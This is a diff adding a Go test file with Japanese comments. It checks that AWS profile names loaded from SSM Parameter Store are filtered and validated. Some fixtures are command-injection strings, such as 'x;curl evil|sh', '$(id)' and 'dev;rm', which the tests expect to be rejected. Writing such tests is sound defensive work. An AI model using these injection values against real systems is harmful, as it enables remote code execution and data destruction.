@@ -0,0 +1,115 @@
+package profileselector
+
+import (
+	"context"
+	"errors"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// fakeSSMClient は決まったパラメータを返す ssmClient です。
+type fakeSSMClient struct {
+	params []ssmParameter
+	err    error
+}
+
+func (c fakeSSMClient) GetParametersByPath(ctx context.Context, path string) ([]ssmParameter, error) {
+	return c.params, c.err
+}
+
+func TestLoadProfilesFromSSM(t *testing.T) {
+	tests := []struct {
+		name      string
+		params    []ssmParameter
+		clientErr error
+		wantNames []string
+		wantErr   bool
+	}{
+		{
+			name: "名前順に読み込む",
+			params: []ssmParameter{
+				{Name: "/team/profiles/prod", Value: `{"region": "us-east-1"}`},
+				{Name: "/team/profiles/dev", Value: `{"region": "ap-northeast-1"}`},
+			},
+			wantNames: []string{"dev", "prod"},
+		},
+		{
+			name: "プレフィックスの外のパラメータは読み飛ばす",
+			params: []ssmParameter{
+				{Name: "/other/dev", Value: `{}`},
+				{Name: "/team/profiles/", Value: `{}`},
+				{Name: "/team/profiles/dev", Value: `{}`},
+			},
+			wantNames: []string{"dev"},
+		},
+		{
+			name: "プロファイル名の規則を満たさないパラメータは読み飛ばす",
+			params: []ssmParameter{
+				{Name: "/team/profiles/nested/dev", Value: `{}`},
+				{Name: "/team/profiles/x;curl evil|sh", Value: `{}`},
+				{Name: "/team/profiles/$(id)", Value: `{}`},
+				{Name: "/team/profiles/has space", Value: `{}`},
+				{Name: "/team/profiles/prod-admin@corp.example", Value: `{}`},
+			},
+			wantNames: []string{"prod-admin@corp.example"},
+		},
+		{
+			name:    "値が JSON オブジェクトでない",
+			params:  []ssmParameter{{Name: "/team/profiles/dev", Value: `region=us-east-1`}},
+			wantErr: true,
+		},
+		{
+			name:      "取得に失敗",
+			clientErr: errors.New("AccessDenied"),
+			wantErr:   true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			client := fakeSSMClient{params: tt.params, err: tt.clientErr}
+			profiles, err := loadProfilesFromSSM(context.Background(), client, "/team/profiles", true)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("loadProfilesFromSSM() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if tt.wantErr {
+				return
+			}
+			var names []string
+			for _, p := range profiles {
+				if !p.FromSSM {
+					t.Errorf("%s の FromSSM = false, want true", p.Name)
+				}
+				names = append(names, p.Name)
+			}
+			if !reflect.DeepEqual(names, tt.wantNames) {
+				t.Errorf("プロファイル名 = %v, want %v", names, tt.wantNames)
+			}
+		})
+	}
+}
+
+func TestValidateAWSProfileName(t *testing.T) {
+	tests := []struct {
+		name    string
+		wantErr bool
+	}{
+		{name: "dev", wantErr: false},
+		{name: "prod_admin.v2", wantErr: false},
+		{name: "user@example.com", wantErr: false},
+		{name: "", wantErr: true},
+		{name: "team/dev", wantErr: true},
+		{name: "a b", wantErr: true},
+		{name: "dev;rm", wantErr: true},
+		{name: "プロファイル", wantErr: true},
+		{name: strings.Repeat("a", 64), wantErr: false},
+		{name: strings.Repeat("a", 65), wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := validateAWSProfileName(tt.name); (err != nil) != tt.wantErr {
+				t.Errorf("validateAWSProfileName(%q) error = %v, wantErr %v", tt.name, err, tt.wantErr)
+			}
+		})
+	}
+}